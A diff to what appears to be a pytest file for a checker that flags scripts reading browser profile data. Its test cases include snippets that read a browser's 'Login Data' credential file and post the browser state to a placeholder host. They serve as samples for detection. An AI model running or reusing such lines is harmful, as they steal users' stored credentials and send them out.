@@ -83,6 +83,9 @@ PROFILES = (
 
 def test_the_names_of_a_browsers_profiles_warn() -> None:
     assert verdict("lint.py", PROFILES) is Verdict.WARN
+    printed = PROFILES.replace("print(list(state['profile']['info_cache']))", "")
+    printed += "import sys\nsys.stdout.write(json.dumps(list(state['profile']['info_cache'])))\n"
+    assert verdict("lint.py", printed) is Verdict.WARN
 
 
 @pytest.mark.parametrize(
@@ -92,6 +95,8 @@ def test_the_names_of_a_browsers_profiles_warn() -> None:
         "print((base / 'Default/Login Data').read_bytes())\n",
         "import requests\nrequests.post('https://c.example.invalid', json=state)\n",
         "Path('out').write_text(json.dumps(state))\n",
+        "link.sys.stdout.write(json.dumps(state))\n",
+        "Sys.Stdout.write(json.dumps(state))\n",
     ],
 )
 def test_what_the_browser_keeps_is_refused(more: str) -> None:
